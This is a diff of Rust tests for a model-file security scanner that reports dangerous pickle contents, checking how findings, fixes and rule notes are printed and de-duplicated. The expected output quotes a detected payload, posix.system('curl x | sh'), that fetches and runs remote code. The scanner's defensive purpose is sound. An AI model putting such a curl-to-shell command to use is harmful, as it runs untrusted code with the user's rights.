@@ -53,11 +53,10 @@ fn written(files: &[Scanned], quiet: bool) -> String {
 fn the_worst_file_comes_first_with_all_that_a_person_needs() {
     let expected = "\
 b.pt  pickle, 25 bytes
-  critical  Loading the file runs a shell command
-            Loading calls `posix.system`
+  critical  Loading calls `posix.system`
             at    b.pt!archive/data.pkl @ 0x2f
             does  posix.system('curl x | sh')
-            why   It runs with your rights.
+            why   It runs with your rights. More of it.
             fix   Do not load it.
             rule  shell-command  (mlscan explain shell-command)
   same in   1 more file: c.pt
@@ -68,6 +67,31 @@ a.pkl  pickle, 25 bytes
 Found: 2 critical; 1 model not fully read, so nobody can say what is in the rest.
 ";
     assert_eq!(written(&[cut("a.pkl"), evil("b.pt"), evil("c.pt")], true), expected);
+}
+
+#[test]
+fn what_holds_for_a_rule_is_said_once() {
+    let mut other = evil("other.pt");
+    other.findings[0].message = format!("Loading calls `{}`", "long".repeat(30));
+    let text = written(&[evil("a.pt"), other], false);
+    assert_eq!(text.matches("fix   Do not load it.").count(), 1, "{text}");
+    assert!(text.contains("rule  shell-command  (as above)"), "{text}");
+    assert!(
+        text.contains("critical  Loading the file runs a shell command\n            Loading calls"),
+        "{text}"
+    );
+}
+
+#[test]
+fn what_a_finding_says_of_a_gap_is_not_said_again() {
+    let mut file = cut("a.pkl");
+    let mut finding = Finding::new("not-fully-read", Severity::Low);
+    finding.path = "a.pkl".into();
+    finding.offset = Some(25);
+    finding.message = "A part was not read (truncated): the stream ends before STOP".into();
+    file.findings.push(finding);
+    let text = written(&[file], false);
+    assert_eq!(text.matches("the stream ends before STOP").count(), 1, "{text}");
 }
 
 #[test]
